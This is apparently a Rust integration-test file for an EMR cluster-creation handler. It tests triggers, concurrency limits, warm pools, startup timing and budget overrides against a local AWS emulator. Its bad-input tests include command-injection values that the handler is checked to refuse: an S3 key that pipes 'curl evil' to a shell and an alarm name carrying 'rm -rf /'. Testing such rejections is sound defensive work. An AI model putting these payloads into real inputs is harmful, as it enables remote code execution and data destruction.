//! create-cluster against the emulator: the real S3, Step Functions and EMR
//! adapters, the generated state machine run by the emulator's interpreter,
//! and the sample events from `events/`.

use serde_json::{Value, json};
use sparkhub_core::create::{Config, CreateError, Outcome};
use sparkhub_core::loading::ProfileError;
use sparkhub_core::profile::MAX_PROFILE_BYTES;
use sparkhub_core::testing::workspace_root;
use sparkhub_core::workflow::CLUSTER_WORKFLOW_FILE;
use sparkhub_tests::{LocalAws, unique, wait_for};

const TUTORIAL: &str = include_str!("../../profiles/tutorial.toml");
const RETRAIN: &str = include_str!("../../profiles/retrain.toml");

type Handler = sparkhub_aws::AwsCreateCluster;

struct Setup {
    aws: LocalAws,
    bucket: String,
    machine: String,
    handler: Handler,
}

/// A bucket with the given profiles, a state machine, and the handler wired
/// to both through the real adapters.
async fn setup(profiles: &[(&str, String)]) -> Setup {
    let aws = LocalAws::connect().await;
    let bucket = unique("sparkhub-it");
    let objects: Vec<(String, &str)> = profiles
        .iter()
        .map(|(name, text)| (format!("profiles/{name}.toml"), text.as_str()))
        .collect();
    let objects: Vec<(&str, &str)> = objects.iter().map(|(k, v)| (k.as_str(), *v)).collect();
    aws.bucket_with(&bucket, &objects).await;
    let machine = aws
        .create_state_machine(CLUSTER_WORKFLOW_FILE, &unique("sparkhub-cluster"))
        .await;
    let handler = sparkhub_aws::create_cluster(
        Config {
            bucket: bucket.clone(),
            state_machine_arn: machine.clone(),
            topic_arn: None,
            poll_seconds: 1,
            master_security_group: None,
            service_role: "sparkhub-emr-service".into(),
            instance_role_prefix: "sparkhub-node".into(),
            max_concurrency: sparkhub_core::settings::DEFAULT_MAX_CONCURRENCY,
        },
        &aws.config,
    );
    Setup {
        aws,
        bucket,
        machine,
        handler,
    }
}

fn event(name: &str) -> Value {
    serde_json::from_str(
        &std::fs::read_to_string(workspace_root().join("events").join(name)).unwrap(),
    )
    .unwrap()
}

fn renamed(profile: &str, name: &str) -> String {
    profile
        .replacen("name = \"tutorial\"", &format!("name = \"{name}\""), 1)
        .replacen("name = \"retrain\"", &format!("name = \"{name}\""), 1)
}

#[tokio::test]
async fn a_scheduled_event_creates_the_profiles_cluster_exactly_once() {
    let profile = unique("tut");
    let s = setup(&[(&profile, renamed(TUTORIAL, &profile))]).await;
    let mut scheduled = event("create-cluster-scheduled-event.json");
    scheduled["id"] = json!(unique("event"));
    scheduled["resources"][0] = json!(format!(
        "arn:aws:events:us-east-1:123456789012:rule/sparkhub-{profile}"
    ));

    let first = s.handler.handle(scheduled.clone()).await.unwrap();
    let Outcome::Started { execution_arn, .. } = &first else {
        panic!("{first:?}")
    };
    let cluster_id = s.aws.cluster_of(execution_arn).await;
    let cluster = s.aws.describe_cluster(&cluster_id).await;
    let apps: Vec<&str> = cluster
        .applications()
        .iter()
        .filter_map(|a| a.name())
        .collect();
    assert_eq!(apps, ["Spark", "Hadoop", "Livy", "Hive", "JupyterHub"]);
    assert_eq!(cluster.name(), Some(format!("sparkhub-{profile}").as_str()));
    let scripts = s.aws.keys(&s.bucket, "scripts/").await;
    assert_eq!(
        scripts.len(),
        3,
        "bootstrap, notebook reporter and users scripts uploaded: {scripts:?}"
    );
    let done = s.aws.finished(execution_arn).await;
    assert_eq!(done.status, "SUCCEEDED", "{done:?}");

    // EventBridge delivers at least once: the second delivery starts nothing.
    let second = s.handler.handle(scheduled).await.unwrap();
    assert!(
        matches!(&second, Outcome::AlreadyStarted { execution_arn: again, .. } if again == execution_arn),
        "{second:?}"
    );
    assert_eq!(s.aws.executions(&s.machine).await.len(), 1);
    assert_eq!(s.aws.clusters_of_profile(&profile).await, [cluster_id]);

    // Another trigger while the cluster is up is skipped (one interactive cluster at a time).
    let manual = s.handler.handle(json!({"profile": profile})).await.unwrap();
    assert!(
        matches!(&manual, Outcome::Skipped { reason, .. } if reason.contains("limit is 1")),
        "{manual:?}"
    );
    assert_eq!(s.aws.executions(&s.machine).await.len(), 1);
}

#[tokio::test]
async fn an_s3_event_starts_a_pipeline_whose_steps_carry_the_object() {
    let profile = unique("retrain");
    let data = unique("training-data");
    let text = renamed(RETRAIN, &profile).replace("training-data-example", &data);
    let s = setup(&[(&profile, text)]).await;
    let mut created = event("create-cluster-s3-object-created.json");
    created["id"] = json!(unique("event"));
    created["detail"]["bucket"]["name"] = json!(data);

    let outcome = s.handler.handle(created).await.unwrap();
    let Outcome::Started {
        execution_arn,
        profile: started,
        ..
    } = &outcome
    else {
        panic!("{outcome:?}")
    };
    assert_eq!(started, &profile);
    let cluster = s.aws.cluster_of(execution_arn).await;
    let step = wait_for("the first step", || async {
        s.aws.steps(&cluster).await.into_iter().next()
    })
    .await;
    assert_eq!(
        step.args.last().map(String::as_str),
        Some(format!("s3://{data}/incoming/2026-11-25/batch-0001.csv").as_str())
    );

    s.aws.set_step_state(&cluster, &step.id, "COMPLETED", None);
    let second = wait_for("the second step", || async {
        s.aws.steps(&cluster).await.into_iter().nth(1)
    })
    .await;
    s.aws
        .set_step_state(&cluster, &second.id, "COMPLETED", None);
    assert_eq!(s.aws.finished(execution_arn).await.status, "SUCCEEDED");
    assert_eq!(
        s.aws.cluster_state(&cluster).await,
        "TERMINATED",
        "the pipeline's cluster is gone"
    );
}

#[tokio::test]
async fn bad_input_is_a_clear_error_and_starts_nothing() {
    let broken = unique("broken");
    let invalid = unique("invalid");
    let huge = unique("huge");
    let empty = unique("empty");
    let huge_text = format!(
        "{}\n# {}\n",
        renamed(TUTORIAL, &huge),
        "x".repeat(MAX_PROFILE_BYTES + 1000)
    );
    let s = setup(&[
        (&huge, huge_text.clone()),
        (&empty, String::new()),
        (
            &broken,
            format!("name = \"{broken}\"\napplications = [\"Spark\"\n"),
        ),
        (
            &invalid,
            renamed(TUTORIAL, &invalid)
                .replace("users = [\"philipp\", \"admin\"]", "users = [\"Philipp\"]"),
        ),
    ])
    .await;

    let err = s
        .handler
        .handle(json!({"profile": "nobody-has-this"}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, CreateError::Profile(ProfileError::NotFound { .. })),
        "{err}"
    );
    assert!(
        err.to_string()
            .contains(&format!("s3://{}/profiles/nobody-has-this.toml", s.bucket)),
        "{err}"
    );

    let err = s
        .handler
        .handle(json!({"profile": broken}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, CreateError::Profile(ProfileError::Unreadable { .. })),
        "{err}"
    );

    // Refused by the size S3 reports for the ranged read, not after reading it.
    let err = s
        .handler
        .handle(json!({"profile": huge}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, CreateError::Profile(ProfileError::Unreadable { .. }))
            && err.to_string().contains(&format!(
                "{} bytes; a profile has at most {MAX_PROFILE_BYTES} bytes",
                huge_text.len()
            )),
        "{err}"
    );

    // An empty object has no range to read: it is an invalid profile.
    let err = s
        .handler
        .handle(json!({"profile": empty}))
        .await
        .unwrap_err();
    assert!(
        matches!(err, CreateError::Profile(ProfileError::Invalid { .. })),
        "{err}"
    );

    let err = s
        .handler
        .handle(json!({"profile": invalid}))
        .await
        .unwrap_err();
    assert!(
        err.to_string()
            .contains("users[0]: \"Philipp\" is not a valid Linux user name"),
        "{err}"
    );

    let unrelated = json!({"version": "0", "id": "e-1", "detail-type": "EC2 Instance State-change Notification", "source": "aws.ec2", "detail": {}});
    assert!(matches!(
        s.handler.handle(unrelated).await.unwrap_err(),
        CreateError::BadEvent(_)
    ));

    let mut unsafe_key = event("create-cluster-s3-object-created.json");
    unsafe_key["detail"]["object"]["key"] = json!("incoming/x;curl evil|sh");
    let err = s.handler.handle(unsafe_key).await.unwrap_err();
    assert!(matches!(err, CreateError::UnsafeObjectKey { .. }), "{err}");

    let mut created = event("create-cluster-s3-object-created.json");
    created["detail"]["bucket"]["name"] = json!(unique("nobody-watches"));
    assert!(matches!(
        s.handler.handle(created).await.unwrap_err(),
        CreateError::NoMatchingTrigger { .. }
    ));

    assert!(
        s.aws.executions(&s.machine).await.is_empty(),
        "no execution was started"
    );
    assert!(
        s.aws.clusters_of_profile(&invalid).await.is_empty(),
        "no cluster was created"
    );
    assert!(
        s.aws.keys(&s.bucket, "scripts/").await.is_empty(),
        "no script was uploaded"
    );
}

/// Fifty objects uploaded at once: fifty invocations at the same moment, each
/// of which would see no cluster. With `max_active_clusters = 1` one run
/// starts; the others see it (through the lease, the running execution or its
/// cluster) and are skipped.
#[tokio::test]
async fn fifty_concurrent_invocations_start_one_run() {
    let profile = unique("burst");
    let s = setup(&[(&profile, renamed(TUTORIAL, &profile))]).await;
    let handler = std::sync::Arc::new(s.handler);
    let began = std::time::Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..50 {
        let handler = handler.clone();
        let profile = profile.clone();
        tasks.spawn(async move {
            handler
                .handle(json!({"profile": profile, "run_id": format!("upload-{i}")}))
                .await
        });
    }
    let (mut started, mut skipped) = (0, 0);
    while let Some(outcome) = tasks.join_next().await {
        match outcome.unwrap() {
            Ok(Outcome::Started { .. }) => started += 1,
            Ok(Outcome::Skipped { .. }) => skipped += 1,
            other => panic!("{other:?}"),
        }
    }
    eprintln!(
        "50 concurrent invocations: {started} started, {skipped} skipped in {:?}",
        began.elapsed()
    );
    assert_eq!((started, skipped), (1, 49));
    assert_eq!(
        s.aws.executions(&s.machine).await.len(),
        1,
        "exactly one execution"
    );
}

/// A run that must be ready by a time: create-cluster reads the profile's
/// recorded startups, and the workflow waits until ready_by minus their p95
/// and the margin before it creates the cluster.
#[tokio::test]
async fn a_ready_by_run_waits_until_ready_by_minus_the_recorded_startup_p95() {
    use sparkhub_core::startup::{StartupSample, Startups};
    let profile = unique("early");
    let s = setup(&[(&profile, renamed(TUTORIAL, &profile))]).await;
    let now = jiff::Timestamp::now();
    let samples = (6..=10)
        .map(|m| {
            let ready_at = now - jiff::SignedDuration::from_hours(24 * m);
            StartupSample {
                cluster_id: format!("j-OLD{m}"),
                created_at: ready_at - jiff::SignedDuration::from_mins(m),
                ready_at,
            }
        })
        .collect();
    let startups = Startups {
        version: 1,
        samples,
    };
    s.aws
        .bucket_put(
            &s.bucket,
            &format!("startups/{profile}.json"),
            &startups.to_json(),
        )
        .await;
    let ready_by = jiff::Timestamp::from_second(now.as_second() + 30 * 60).unwrap();

    let outcome = s
        .handler
        .handle(json!({"profile": profile, "run_id": unique("monday"), "ready_by": ready_by.to_string()}))
        .await
        .unwrap();
    let Outcome::Started {
        execution_arn,
        creates_cluster_at,
        ..
    } = &outcome
    else {
        panic!("{outcome:?}")
    };
    // p95 of 6..10 minutes is 10; and 2 minutes margin.
    assert_eq!(
        *creates_cluster_at,
        Some(ready_by - jiff::SignedDuration::from_mins(12))
    );
    let entered = wait_for("the run to wait", || async {
        let entered = s.aws.entered_states(execution_arn).await;
        entered
            .iter()
            .any(|n| n == "Wait to start")
            .then_some(entered)
    })
    .await;
    assert!(
        !entered.iter().any(|n| n == "Create cluster"),
        "{entered:?}"
    );
    assert_eq!(s.aws.execution(execution_arn).await.status, "RUNNING");
    assert!(s.aws.clusters_of_profile(&profile).await.is_empty());
    s.aws
        .sfn
        .stop_execution()
        .execution_arn(execution_arn)
        .send()
        .await
        .unwrap();
}

// --- warm pools and event triggers -------------------------------------------

/// The retrain pipeline with a warm pool of `max` clusters.
fn pooled(name: &str, max: u32) -> String {
    format!(
        "{}\n[pool]\nmax_clusters = {max}\nidle_minutes = 15\n",
        renamed(RETRAIN, name)
    )
}

/// An S3 Object Created event of its own for the retrain trigger.
fn object_event(key: &str) -> Value {
    let mut e = event("create-cluster-s3-object-created.json");
    e["id"] = json!(unique("object"));
    e["detail"]["object"]["key"] = json!(key);
    e
}

/// Every cluster of the profile EMR ever made (all states): one RunJobFlow
/// each.
async fn every_cluster(s: &Setup, profile: &str) -> Vec<String> {
    let name = format!("sparkhub-{profile}");
    let mut ids = Vec::new();
    let mut pages = s.aws.emr.list_clusters().into_paginator().send();
    while let Some(page) = pages.next().await {
        for c in page.unwrap().clusters() {
            if c.name() == Some(name.as_str()) {
                ids.push(c.id().unwrap().to_owned());
            }
        }
    }
    ids
}

/// Completes the run's steps on `cluster` one after the other as they come.
async fn complete_steps(s: &Setup, cluster: &str, from: usize, count: usize) {
    for n in from..from + count {
        let step = wait_for(&format!("step {}", n + 1), || async {
            let steps = s.aws.steps(cluster).await;
            // In the order they were added.
            steps.get(n).cloned()
        })
        .await;
        s.aws.set_step_state(cluster, &step.id, "COMPLETED", None);
    }
}

/// The pool's first run, on an object of its own, to its end: its cluster.
async fn first_run(s: &Setup) -> String {
    let first = s
        .handler
        .handle(object_event("incoming/a.csv"))
        .await
        .unwrap();
    let run = started(&first);
    let cluster = s.aws.cluster_of(run).await;
    complete_steps(s, &cluster, 0, 2).await;
    assert_eq!(s.aws.finished(run).await.status, "SUCCEEDED");
    cluster
}

fn started(outcome: &Outcome) -> &str {
    match outcome {
        Outcome::Started { execution_arn, .. } => execution_arn,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn a_second_object_on_a_pooled_profile_runs_on_the_first_runs_cluster() {
    let profile = unique("pool");
    let s = setup(&[(&profile, pooled(&profile, 2))]).await;

    let cluster = first_run(&s).await;
    let tags = |c: aws_sdk_emr::types::Cluster| -> Vec<String> {
        c.tags()
            .iter()
            .filter_map(|t| t.key().map(str::to_owned))
            .collect()
    };
    let after = tags(s.aws.describe_cluster(&cluster).await);
    assert!(
        !after.iter().any(|k| k == "sparkhub:claimed-by"),
        "the run released its cluster: {after:?}"
    );
    assert!(after.iter().any(|k| k == "sparkhub:config-hash"));
    assert_ne!(
        s.aws.cluster_state(&cluster).await,
        "TERMINATED",
        "left for the next run"
    );
    // EMR says WAITING once the last step is done (the emulator is told).
    s.aws.set_cluster_state(&cluster, "WAITING", None);

    let second = s
        .handler
        .handle(object_event("incoming/b.csv"))
        .await
        .unwrap();
    let run2 = started(&second);
    complete_steps(&s, &cluster, 2, 2).await;
    assert_eq!(s.aws.finished(run2).await.status, "SUCCEEDED");

    assert_eq!(
        every_cluster(&s, &profile).await,
        std::slice::from_ref(&cluster),
        "one RunJobFlow"
    );
    let steps = s.aws.steps(&cluster).await;
    let names: Vec<&str> = steps.iter().map(|st| st.name.as_str()).collect();
    assert_eq!(
        names,
        ["clean", "train", "clean", "train"],
        "both runs, in order"
    );
    assert_eq!(
        steps[2].args.last().map(String::as_str),
        Some("s3://training-data-example/incoming/b.csv"),
        "the second run's own object"
    );
}

#[tokio::test]
async fn ten_objects_at_once_on_a_pool_of_two_make_at_most_two_clusters() {
    let profile = unique("pool10");
    let mut s = setup(&[(&profile, pooled(&profile, 2))]).await;
    s.handler.pool_wait = sparkhub_core::create::pool::PoolWait {
        attempts: 2,
        pause: std::time::Duration::from_millis(300),
    };
    let handler = &s.handler;
    let outcomes = futures::future::join_all(
        (0..10).map(|i| handler.handle(object_event(&format!("incoming/{i}.csv")))),
    )
    .await;
    let runs: Vec<&str> = outcomes
        .iter()
        .filter_map(|o| match o {
            Ok(Outcome::Started { execution_arn, .. }) => Some(execution_arn.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(runs.len(), 2, "{outcomes:?}");
    for o in outcomes.iter().filter(|o| o.is_err()) {
        let e = o.as_ref().unwrap_err();
        assert!(matches!(e, CreateError::LimitReached { .. }), "{e}");
    }
    for run in &runs {
        s.aws.cluster_of(run).await;
    }
    assert_eq!(every_cluster(&s, &profile).await.len(), 2);
}

#[tokio::test]
async fn a_claimed_cluster_that_ends_before_its_run_uses_it_is_replaced() {
    let profile = unique("poolgone");
    let s = setup(&[(&profile, pooled(&profile, 2))]).await;
    let warm = first_run(&s).await;
    s.aws.set_cluster_state(&warm, "WAITING", None);

    let second = s
        .handler
        .handle(object_event("incoming/b.csv"))
        .await
        .unwrap();
    // Gone between the claim and the run's first look at it.
    s.aws
        .set_cluster_state(&warm, "TERMINATED", Some("terminated by a person"));
    let run2 = started(&second);
    let replacement = wait_for("a new cluster", || async {
        every_cluster(&s, &profile)
            .await
            .into_iter()
            .find(|c| *c != warm)
    })
    .await;
    complete_steps(&s, &replacement, 0, 2).await;
    let done = s.aws.finished(run2).await;
    assert_eq!(done.status, "SUCCEEDED", "{done:?}");
    let entered = s.aws.entered_states(run2).await;
    assert!(
        entered.iter().any(|n| n == "Claimed cluster gone"),
        "{entered:?}"
    );
    assert!(
        s.aws.steps(&warm).await.len() == 2,
        "nothing ran on the ended cluster"
    );
}

#[tokio::test]
async fn a_cloudwatch_alarm_starts_a_pipeline_whose_steps_carry_the_events_values() {
    let profile = unique("drift");
    let text = std::fs::read_to_string(workspace_root().join("profiles/drift.toml"))
        .unwrap()
        .replacen("name = \"drift\"", &format!("name = \"{profile}\""), 1);
    let s = setup(&[(&profile, text)]).await;
    // What the generated rule's input transformer sends for the sample alarm.
    let mut input = event("create-cluster-event-trigger.json");
    input["profile"] = json!(profile);
    input["run_id"] = json!(unique("event"));
    let outcome = s.handler.handle(input.clone()).await.unwrap();
    let run = started(&outcome);
    let cluster = s.aws.cluster_of(run).await;
    let step = wait_for("the step", || async {
        s.aws.steps(&cluster).await.into_iter().next()
    })
    .await;
    assert_eq!(step.name, "retrain");
    assert_eq!(
        step.args[step.args.len() - 4..],
        ["--alarm", "model-drift", "--since", "2026-12-06T09:00:00Z"]
    );

    // A value a shell would read refuses the run, naming the path.
    input["run_id"] = json!(unique("event"));
    input["event"]["detail"]["alarmName"] = json!("drift; rm -rf /");
    let e = s.handler.handle(input).await.unwrap_err();
    assert!(e.to_string().contains("detail.alarmName"), "{e}");
}

/// A profile over its monthly budget gets no new cluster; a person's
/// override starts one and is recorded in the month's object and the
/// history.
#[tokio::test]
async fn a_profile_over_budget_is_refused_a_cluster_unless_overridden() {
    use sparkhub_core::budget::{MonthSpend, cluster_spend, month_of};
    use sparkhub_core::ports::BudgetLedger;
    let profile = unique("budget");
    let text = renamed(TUTORIAL, &profile).replace("monthly_usd = 200", "monthly_usd = 10");
    let s = setup(&[(&profile, text)]).await;
    let now = jiff::Timestamp::now();
    let month = month_of(now);
    let name = sparkhub_core::ProfileName::parse(&profile).unwrap();
    let mut spend = MonthSpend::new(&name, &month, now);
    spend.clusters.insert(
        "j-EARLIER".into(),
        cluster_spend(12.0, now - jiff::SignedDuration::from_mins(60), now, "test"),
    );
    s.aws
        .bucket_put(
            &s.bucket,
            &format!("budgets/{profile}/{month}.json"),
            &spend.to_json(),
        )
        .await;

    let e = s
        .handler
        .handle(json!({"profile": profile}))
        .await
        .unwrap_err();
    assert!(matches!(e, CreateError::BudgetSpent { .. }), "{e}");
    assert!(s.aws.clusters_of_profile(&profile).await.is_empty());
    assert!(s.aws.executions(&s.machine).await.is_empty());

    let outcome = s
        .handler
        .handle(json!({"profile": profile, "run_id": unique("urgent"), "override_budget": true}))
        .await
        .unwrap();
    let run = started(&outcome);
    s.aws.cluster_of(run).await;
    let history = s.aws.keys(&s.bucket, "history/").await;
    assert!(
        history
            .iter()
            .any(|k| k.contains(&format!("/{profile}_")) && k.contains("-budget-override-")),
        "{history:?}"
    );
    // And in the month's object, where the report counts it.
    let (_, body) = sparkhub_aws::S3Bucket::new(s.aws.s3.clone(), &s.bucket)
        .read_month(&name, &month)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(MonthSpend::parse(&body).unwrap().overrides.len(), 1);
}
